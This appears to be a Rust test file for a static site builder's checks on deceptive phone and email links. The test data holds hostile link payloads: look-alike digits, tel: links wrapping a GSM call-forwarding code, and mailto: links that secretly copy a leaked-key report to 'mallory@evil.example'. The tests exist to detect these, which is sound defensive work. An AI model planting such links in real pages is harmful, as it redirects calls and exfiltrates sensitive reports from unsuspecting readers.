//! Session 61's hostile pull request: what a phone dials against what the page shows.
//! Each test builds a site in a temporary folder and reads the written pages or the
//! messages.

mod common;

use common::{build_ok, edit, example_site, pipebook, problems, read, stderr};

/// The example site with `de1`'s phone set to `phone` and phone numbers published.
fn site_with_phone(phone: &str) -> tempfile::TempDir {
    let site = example_site();
    let root = site.path();
    edit(
        root,
        "content/team.yaml",
        "contact: { email: de1@example.com, slack: \"@de1\" }",
        &format!("contact: {{ email: de1@example.com, slack: \"@de1\", phone: \"{phone}\" }}"),
    );
    let site_yaml = root.join("content/site.yaml");
    let text = read(&site_yaml);
    std::fs::write(
        &site_yaml,
        format!("{text}publish_contacts: [slack, email, phone]\n"),
    )
    .unwrap();
    site
}

/// A phone number that reads as one number and dials another: letters that pass for
/// digits (a dialer dials a letter as the digit of its key: `O` on 6, `l` on 5, `S` on
/// 7, `B` on 2), digits of other scripts (fullwidth, Arabic-Indic, a Bengali 4 that
/// reads as 8), a `+` inside. On main each built (exit 0) and the engineer's page showed
/// `+1 555 O1OO` with `href="tel:+1555O1OO"`, which calls 555 6166; now each is an error
/// at its line of team.yaml naming the character, and nothing is written.
#[test]
fn phone_numbers_that_dial_another_number_are_refused() {
    let cases = [
        ("+1 555 O1OO", "the letter `O`"),
        ("+1 555 0l00", "the letter `l`"),
        ("+1 (555) 0I0-S1B0", "the letter `I`"),
        ("+1 555 \u{FF10}100", "\\u{ff10}"),
        ("+1 555 \u{0660}100", "\\u{660}"),
        ("+1 555 01\u{09EA}0", "\\u{9ea}"),
        ("555+0100", "a `+` after its start"),
        ("+1 555 0100 ext 1a", "the letter `e`"),
        ("+1 555 0100 box12", "the letter `b`"),
        ("call the desk", "the letter `c`"),
    ];
    for (phone, why) in cases {
        let site = site_with_phone(phone);
        let root = site.path();
        let out = pipebook(&["build", "--root", root.to_str().unwrap()]);
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{phone}: {err}");
        let line = read(&root.join("content/team.yaml"))
            .lines()
            .position(|l| l.contains("phone:"))
            .unwrap()
            + 1;
        let at = format!("content/team.yaml:{line} the phone");
        let found = problems(&err);
        let error = (found.iter())
            .find(|p| p.starts_with(&at))
            .unwrap_or_else(|| panic!("{phone}: no error at {at}: {err}"));
        assert!(error.contains(why), "{phone}: {error}");
        assert!(error.contains("engineer `de1`"), "{phone}: {error}");
        assert!(!root.join("public").exists(), "{phone}: output written");
    }
}

/// Honest numbers, however grouped, still build, and the Call link dials the digits
/// shown.
#[test]
fn phone_numbers_in_digits_build_and_dial_what_they_show() {
    for (phone, dialled) in [
        ("+1 555 0100", "tel:+15550100"),
        ("+1 (555) 010-0100", "tel:+1(555)010-0100"),
        ("030 1234.5678", "tel:0301234.5678"),
        ("+44\u{A0}20 7946 0000", "tel:+442079460000"),
        // An extension is RFC 3966's `;ext=`, and a slash a separator (`030/1234 5678`).
        ("+1 555 0100 ext. 12", "tel:+15550100;ext=12"),
        ("555-0100 x12", "tel:555-0100;ext=12"),
        ("030/1234 5678", "tel:03012345678"),
    ] {
        let site = site_with_phone(phone);
        let root = site.path();
        build_ok(root);
        let page = read(&root.join("public/engineers/de1/index.html"));
        assert!(
            page.contains(&format!("href=\"{dialled}\"")),
            "{phone}: {page}"
        );
    }
}

/// A runbook's `tel:` link whose number holds a letter or a digit of another script among
/// the digits its text shows: a phone dials `O` as 6, so `[555 0100](tel:555O0100)`
/// calls 5556 0100; a fullwidth `１` (`%EF%BC%91`) or an Arabic-Indic `١` dials as each
/// phone reads it. On main the check compared the target's ASCII digits alone, which
/// were the text's: no warning for any of the three (the build said "0 warnings" of
/// them). Now each is a warning at its link naming the character; a number written in
/// its digits, or a name spelled on the keys (`1-800-FLOWERS` shown as such), stays quiet.
#[test]
fn tel_links_whose_letters_or_foreign_digits_dial_another_number_are_told() {
    let site = example_site();
    let root = site.path();
    std::fs::write(
        root.join("content/runbooks/desk.md"),
        "# DBA desk\n\nCall [555 0100](tel:555O0100).\n\nOr [555 0100](tel:555%EF%BC%910100).\n\nOr [555 0100](tel:555\u{661}0100).\n\nOr [555 0100](tel:5550100) and [1-800-FLOWERS](tel:1-800-FLOWERS).\n",
    )
    .unwrap();
    let err = stderr(&build_ok(root));
    let told: Vec<String> = problems(&err)
        .into_iter()
        .filter(|p| p.starts_with("content/runbooks/desk.md:"))
        .collect();
    assert_eq!(told.len(), 3, "{err}");
    for (line, shown) in [
        (3, "`O`, \\u{4f}, which a phone dials as 6"),
        (5, "\\u{ff11}"),
        (7, "\\u{661}"),
    ] {
        let at = format!("content/runbooks/desk.md:{line} the link's text shows the number `555 0100`, but the link calls");
        let p = (told.iter())
            .find(|p| p.starts_with(&at))
            .unwrap_or_else(|| panic!("nothing at line {line}: {err}"));
        assert!(p.contains(shown), "{p}");
    }
}

/// A `mailto:` link showing the address it writes to while copying another in: a reader
/// reporting a leaked key to `security@ops.example` sent it to the `bcc` as well, a field
/// a phone's mail app folds away. On main the check compared the addresses before the `?`
/// alone: no warning for either link. Now each is a warning at its line naming the
/// address copied in; a subject and body, or a copy to the address shown, stay quiet.
#[test]
fn mailto_links_copying_another_recipient_in_are_told() {
    let site = example_site();
    let root = site.path();
    std::fs::write(
        root.join("content/runbooks/leak.md"),
        "# Leaked key\n\nMail [security@ops.example](mailto:security@ops.example?bcc=mallory@evil.example).\n\nOr [security@ops.example](mailto:security@ops.example?subject=Leak&cc=mallory%40evil.example).\n\nOr [security@ops.example](mailto:security@ops.example?subject=Leak%2C%20sev%201&body=Hi&cc=SECURITY@ops.example).\n",
    )
    .unwrap();
    let err = stderr(&build_ok(root));
    let told: Vec<String> = problems(&err)
        .into_iter()
        .filter(|p| p.starts_with("content/runbooks/leak.md:"))
        .collect();
    assert_eq!(told.len(), 2, "{err}");
    for line in [3, 5] {
        let want = format!("content/runbooks/leak.md:{line} the link's text shows the address `security@ops.example`, but the link writes to `mallory@evil.example` too");
        assert!(told.contains(&want), "{want}: {err}");
    }
}

/// A `tel:` link whose text shows a number with its country code and which calls the same
/// digits after another country code: `[+1 555 0100](tel:+4415550100)` dials a number in
/// the UK. On main the check took any number ending with the digits shown for the same
/// one (meant for a number written with and without its country code): no warning for
/// either link. Now each is a warning at its line; the same number with and without its
/// country code stays quiet.
#[test]
fn tel_links_calling_the_digits_shown_in_another_country_are_told() {
    let site = example_site();
    let root = site.path();
    std::fs::write(
        root.join("content/runbooks/desk.md"),
        "# DBA desk\n\nCall [+1 555 0100](tel:+4415550100).\n\nOr [+1 555 010 0100](tel:+7915550100100).\n\nOr [555 0100](tel:+15550100) or [+1 555 0100](tel:5550100).\n",
    )
    .unwrap();
    let err = stderr(&build_ok(root));
    let told: Vec<String> = problems(&err)
        .into_iter()
        .filter(|p| p.starts_with("content/runbooks/desk.md:"))
        .collect();
    assert_eq!(told.len(), 2, "{err}");
    for (line, called) in [(3, "+4415550100"), (5, "+7915550100100")] {
        let want = format!("the link calls `{called}`");
        assert!(
            (told.iter()).any(
                |p| p.starts_with(&format!("content/runbooks/desk.md:{line} "))
                    && p.contains(&want)
            ),
            "{line}: {err}"
        );
    }
}

/// A `tel:` link whose text shows a number and which dials a code around it: `**21*` …
/// `#` is GSM's code that forwards every call of the reader's phone (the on-call
/// engineer's) to the number between. On main the check dropped `*` and `#`, and the
/// digits left ended with those shown: no warning for either link. Now each is a warning
/// at its line.
#[test]
fn tel_links_dialling_star_and_hash_codes_around_the_number_are_told() {
    let site = example_site();
    let root = site.path();
    std::fs::write(
        root.join("content/runbooks/desk.md"),
        "# DBA desk\n\nCall [+1 555 0100](tel:**21*15550100%23).\n\nOr [555 0100](tel:*%2321%235550100).\n",
    )
    .unwrap();
    let err = stderr(&build_ok(root));
    let told: Vec<String> = problems(&err)
        .into_iter()
        .filter(|p| p.starts_with("content/runbooks/desk.md:"))
        .collect();
    assert_eq!(told.len(), 2, "{err}");
    for line in [3, 5] {
        let at = format!("content/runbooks/desk.md:{line} the link's text shows the number");
        assert!((told.iter()).any(|p| p.starts_with(&at)), "{line}: {err}");
    }
}

/// A `tel:` link whose text shows a number among other words and calls another: on main
/// the check read a number only when it was the whole text, so
/// `[Call the DBA desk on +1 555 0100](tel:+15559999)` passed (no warning for either
/// link). Now each is a warning at its line naming the number shown; a text naming the
/// number called among others, or no number, stays quiet.
#[test]
fn tel_links_whose_words_show_another_number_are_told() {
    let site = example_site();
    let root = site.path();
    std::fs::write(
        root.join("content/runbooks/desk.md"),
        "# DBA desk\n\n[Call the DBA desk on +1 555 0100](tel:+15559999).\n\nOr [DBA desk: 555 0100](tel:+15559999).\n\nOr [555 0199 or 555 0100](tel:5550100) or [the desk (24/7)](tel:+15559999).\n",
    )
    .unwrap();
    let err = stderr(&build_ok(root));
    let told: Vec<String> = problems(&err)
        .into_iter()
        .filter(|p| p.starts_with("content/runbooks/desk.md:"))
        .collect();
    assert_eq!(told.len(), 2, "{err}");
    for (line, shown) in [(3, "+1 555 0100"), (5, "555 0100")] {
        let want = format!("content/runbooks/desk.md:{line} the link's text shows the number `{shown}`, but the link calls `+15559999`");
        assert!(told.contains(&want), "{want}: {err}");
    }
}
